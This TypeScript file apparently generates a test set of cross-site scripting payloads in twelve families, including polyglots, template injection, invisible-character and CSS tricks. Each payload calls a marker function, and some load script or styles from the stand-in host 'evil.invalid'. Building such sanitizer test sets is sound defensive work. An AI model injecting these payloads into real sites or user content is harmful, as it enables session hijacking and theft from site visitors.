// Text that is a program to whoever forgets that it is text. Each calls `__ran` with its own number where it runs,
// asks an address of its own for something where it is followed, and bears a word by which it is found on a page.

export interface Payload {
	number: number;
	family: string;
	text: string;
	/** What must be read of it on a page. */
	word: string;
}

/** Nobody serves it: a request to it is one that has left. */
export const elsewhere = 'evil.invalid';

type Make = (run: string, number: number) => string;

/** Twelve families, in several spellings each. */
const families: Record<string, Make[]> = {
	'script tags': [
		(run) => `<script>${run}</script>`,
		(run) => `<ScRiPt >${run}</sCrIpT>`,
		(run) => `"><script>${run}</script>`,
		(run) => `</textarea><script>${run}</script>`,
		(_run, n) => `<script src=//${elsewhere}/${n}></script>`,
	],
	'event handlers': [
		(run) => `<img src=x onerror=${run}>`,
		(run) => `<body onload=${run}>`,
		(run) => `"><input autofocus onfocus=${run}>`,
		(run) => `<details open ontoggle=${run}>`,
		(run) => `'><video><source onerror=${run}>`,
	],
	svg: [
		(run) => `<svg onload=${run}>`,
		(run) => `<svg><script>${run}</script></svg>`,
		(run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
		(run) => `<svg/onload=${run}//`,
	],
	mathml: [
		(run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
		(run) => `<math href="javascript:${run}">x</math>`,
		(run) => `<math><mi><style><img src=x onerror=${run}></style></mi></math>`,
	],
	'javascript links': [
		(run) => `<a href="javascript:${run}">x</a>`,
		(run) => `<a href="java\tscript:${run}">x</a>`,
		(run) => `javascript:${run}`,
		(run) => `<iframe src="javascript:parent.${run}"></iframe>`,
	],
	templates: [
		(run) => `\${${run}}`,
		(run) => `{{${run}}}`,
		(run) => `{@html "<img src=x onerror=${run}>"}`,
		(run) => `<template><script>${run}</script></template>`,
		(run) => `{{constructor.constructor("${run}")()}}`,
	],
	entities: [
		(run) => `&lt;img src=x onerror=${run}&gt;`,
		(run) => `&#60;script&#62;${run}&#60;/script&#62;`,
		(run) => `<img src=x onerror=&#x5f;${run.slice(1)}>`,
		(run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
	],
	'links of Markdown': [
		(run) => `[x](javascript:${run})`,
		(_run, n) => `![x](http://${elsewhere}/${n})`,
		(run) => `[x]: javascript:${run}`,
		(_run, n) => `<http://${elsewhere}/${n}>`,
		(run) => `[x](data:text/html,<script>${run}</script>)`,
	],
	'unseen marks': [
		(run) => `\u202e<img src=x onerror=${run}>`,
		(run) => `\u200b<script>${run}</script>\u200b`,
		(run) => `\u2066<svg onload=${run}>\u2069`,
		(run) => `\ufeff<img src=x onerror=${run}>`,
	],
	styles: [
		(_run, n) => `<style>@import "http://${elsewhere}/${n}"</style>`,
		(_run, n) => `<p style="background:url(http://${elsewhere}/${n})">x</p>`,
		(_run, n) => `</style><link rel=stylesheet href=http://${elsewhere}/${n}>`,
		(run) => `<style onload=${run}></style>`,
		(_run, n) => `;background:url(//${elsewhere}/${n})`,
	],
	'data addresses': [
		(run) => `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
		(run) => `<object data="data:text/html,<script>${run}</script>">`,
		(run) => `<script src="data:text/javascript,${run}"></script>`,
		(run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
	],
	polyglots: [
		(run) => `jaVasCript:/*-/*\`/*'/*"/**/(${run})//</sCript><svg/oNloAd=${run}>`,
		(run) => `'"--></style></script><script>${run}</script>`,
		(run) => `\`'"><img src=x onerror=${run}>{{7*7}}`,
		(run) => `]]><img src=x onerror=${run}><!--`,
	],
};

export const familyNames = Object.keys(families);

export function payloads(count: number): Payload[] {
	return Array.from({ length: count }, (_, number) => {
		const family = familyNames[number % familyNames.length]!;
		const makes = families[family]!;
		const make = makes[Math.floor(number / familyNames.length) % makes.length]!;
		const word = `w${number}w`;
		return { number, family, word, text: `${word} ${make(`__ran(${number})`, number)}` };
	});
}
